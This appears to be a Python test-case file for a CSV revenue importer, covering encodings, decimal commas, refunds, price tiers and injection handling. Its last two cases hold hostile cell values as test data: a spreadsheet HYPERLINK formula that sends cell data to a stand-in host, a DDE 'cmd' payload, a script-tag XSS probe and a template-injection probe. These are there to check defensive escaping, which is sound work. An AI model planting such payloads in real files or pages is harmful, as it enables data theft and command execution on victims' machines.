"""Whole files as the programs that people use write them."""

from ..build import marked, text
from ..case import Answers, Case, Expected, good

SHOP_TYPES = {"Sale": "sale", "Refund": "refund", "Transfer": "not revenue"}

CASES = (
    Case(
        "german-bookkeeping",
        "Windows-1252, semicolons, decimal commas, day first, minus behind",
        ("windows-1252", "semicolon", "decimal comma", "trailing minus"),
        "Buchungen.csv",
        text(
            "Belegdatum;Debitor;Bezeichnung;Menge;Einzelpreis;Betrag;Whg",
            "04.03.2026;10001 Müller GmbH;Schraube M8;1.200;0,10;120,00;EUR",
            "05.03.2026;10002 Jäger KG;Gutschrift;;;24,50-;EUR",
            "31.03.2026;10001 Müller GmbH;Bolzen;3;33,333;;EUR",
            encoding="cp1252",
        ),
        Expected(3, 3, sums={"EUR": "195.50"}, converted="215.05", asks=("decimal mark: Menge",)),
        Answers(
            ("date", "client", "product", "quantity", "price_sold", "revenue", "currency"),
            encoding="cp1252",
            delimiter=";",
            date_order="DMY",
            decimal_mark=",",
        ),
    ),
    Case(
        "web-shop",
        "orders with quantity and price, a time zone in every stamp, a mark before the first heading",
        ("utf-8 with mark", "time stamps", "offset asked"),
        "orders_export_1.csv",
        marked(
            b"\xef\xbb\xbf",
            "Name,Created at,Lineitem quantity,Lineitem price,Currency,Billing Name",
            "#1001,2026-03-04 10:15:00 +0100,2,19.90,EUR,Ann",
            "#1002,2026-03-04 11:00:00 +0100,1,100.00,GBP,Bob",
            '"#1003",2026-03-05 09:00:00 +0100,3,0.00,EUR,"Cara, Ltd"',
            encoding="utf-8",
        ),
        Expected(
            3,
            3,
            sums={"EUR": "39.80", "GBP": "100.00"},
            converted="168.78",
            asks=("offset: Created at",),
            kept=("#1003", "Cara, Ltd"),
        ),
        Answers(("unique_id", "date", "quantity", "price_sold", "currency", "client"), encoding="utf-8-sig"),
    ),
    Case(
        "payments",
        "payments with their kinds: refunds come positive and are turned, transfers are no revenue",
        ("refunds", "transaction types"),
        "payments.csv",
        text(
            "id,Type,Created (UTC),Amount,Fee,Currency",
            "py_1,Sale,2026-03-04 10:00,100.00,3.20,usd",
            "py_2,Refund,2026-03-05 10:00,40.00,0.00,usd",
            "py_3,Transfer,2026-03-06 10:00,56.80,0.00,usd",
            "py_4,Sale,2026-03-07 10:00,50.00,1.75,eur",
        ),
        good(4, "115.00", USD="60.00", EUR="50.00"),
        Answers(
            ("unique_id", "type", "date", "revenue", None, "currency"),
            types=SHOP_TYPES,
            refunds_carry_minus=False,
        ),
    ),
    Case(
        "payments-signed",
        "the same where refunds already carry their minus, and one type that nobody declared",
        ("refunds", "transaction types"),
        "payments.csv",
        text(
            "id,Type,Created (UTC),Amount",
            "py_1,Sale,2026-03-04,100.00",
            "py_2,Refund,2026-03-05,-40.00",
            "py_3,Chargeback,2026-03-06,-5.00",
        ),
        Expected(
            3, 2, 1, sums={"USD": "60.00"}, converted="60.00", bad_rows=((3, "type", "undeclared type"),)
        ),
        Answers(("unique_id", "type", "date", "revenue"), types=SHOP_TYPES),
    ),
    Case(
        "price-list-only",
        "quantities and products: the catalog prices W, knows no V, and never converts",
        ("catalog",),
        "deliveries.csv",
        text(
            "Date,Product,Quantity,Currency",
            "2026-03-04,W,5,EUR",
            "2026-03-04,widget,1,EUR",
            "2026-03-04,V,4,EUR",
            "2026-03-04,wid,-2,EUR",
        ),
        good(4, unknown=1, USD="79.96"),
        Answers(("date", "product", "quantity", "currency")),
    ),
    Case(
        "three-tiers",
        "the three tiers in three rows, a zero that stands, and a row that has nothing",
        ("tiers",),
        "mixed.csv",
        text(
            "Date,Revenue,Quantity,Price,Product",
            "2026-03-04,0,5,10,",
            "2026-03-04,,5,10,",
            "2026-03-04,,5,,W",
            "2026-03-04,,7,,",
        ),
        good(4, unknown=1, USD="149.95"),
        Answers(("date", "revenue", "quantity", "price_sold", "product")),
    ),
    Case(
        "cost-is-no-price",
        "a column of costs never feeds revenue",
        ("tiers",),
        "costs.csv",
        text("Date,Quantity,Cost,Product", "2026-03-04,5,10,W", "2026-03-04,5,10,"),
        good(2, unknown=1, USD="99.95"),
        Answers(("date", "quantity", "unit_cost", "product")),
    ),
    Case(
        "formulas-for-whoever-opens-it",
        "cells that a spreadsheet would run are kept as they are, and must be harmless in every export",
        ("formula injection",),
        "leads.csv",
        text(
            "Date,Client,Note,Amount",
            '2026-03-04,"=HYPERLINK(""http://evil.example/?""&A1,""open"")","+1+cmd|\' /C calc\'!A0",10',
            '2026-03-04,@SUM(A1:A9),-2+3,"=1+1"',
            '2026-03-05,"\t=1+1",plain,20',
        ),
        Expected(
            3,
            2,
            1,
            sums={"USD": "30.00"},
            converted="30.00",
            bad_rows=((2, "revenue", "unreadable"),),
            kept=(
                "+1+cmd|' /C calc'!A0",
                '=HYPERLINK("http://evil.example/?"&A1,"open")',
                "@SUM(A1:A9)",
                "-2+3",
            ),
        ),
        Answers(("date", "client", "description", "revenue")),
    ),
    Case(
        "markup-in-names",
        "markup in a name is a name",
        ("markup in cells",),
        "leads.csv",
        text(
            "Date,Client,Amount", "2026-03-04,<script>alert(1)</script>,10", "2026-03-04,{{ 7*7 }} & Söhne,20"
        ),
        Expected(
            2,
            2,
            sums={"USD": "30.00"},
            converted="30.00",
            kept=("<script>alert(1)</script>", "{{ 7*7 }} & Söhne"),
        ),
    ),
)
